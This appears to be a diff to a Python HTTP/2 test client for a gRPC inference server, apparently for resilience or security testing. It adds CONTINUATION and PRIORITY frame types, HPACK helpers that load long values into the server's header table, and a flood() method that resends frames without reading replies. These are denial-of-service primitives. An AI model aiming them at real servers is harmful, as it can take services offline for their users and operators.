@@ -10,7 +10,8 @@ import socket
 import struct
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 8
+CONTINUATION = 9
 END_STREAM, ACK, END_HEADERS = 1, 1, 4
 INITIAL_WINDOW_SIZE = 4
 INFER = "/inference.GRPCInferenceService/ModelInfer"
@@ -40,6 +41,24 @@ def headers(path: str) -> bytes:
         "te": "trailers",
     }
     return b"".join(_literal(name, value) for name, value in fields.items())
+
+
+def indexed(name: str, value: str) -> bytes:
+    """A field that enters the dynamic table, where its index is 62 (RFC 7541, 6.2.1)."""
+    return b"\x40" + _short(name) + _long(value)
+
+
+def _short(text: str) -> bytes:
+    return bytes([len(text)]) + text.encode()
+
+
+def _long(text: str) -> bytes:
+    """A string of 127 bytes or more: its length begins with seven ones (RFC 7541, 5.1)."""
+    left, head = len(text) - 127, bytearray(b"\x7f")
+    while left > 127:
+        head.append(left & 127 | 128)
+        left >>= 7
+    return bytes(head) + bytes([left]) + text.encode()
 
 
 def message_start(n_bytes: int) -> bytes:
@@ -89,6 +108,20 @@ class Connection:
             if stream not in self._windows:
                 return False
         return True
+
+    def flood(self, frames: bytes, count: int, *, blocked_s: float = 1.0) -> int:
+        """Send the same bytes again and again and read nothing: how often it went.
+
+        It ends early where the server hangs up, or takes nothing more for `blocked_s`.
+        """
+        times = max(1, 65536 // len(frames))
+        self._socket.settimeout(blocked_s)
+        try:
+            for sent in range(0, count, times):
+                self._socket.sendall(frames * min(times, count - sent))
+        except OSError:
+            return sent
+        return count
 
     def end(self, stream: int) -> None:
         """Say that the body is complete."""
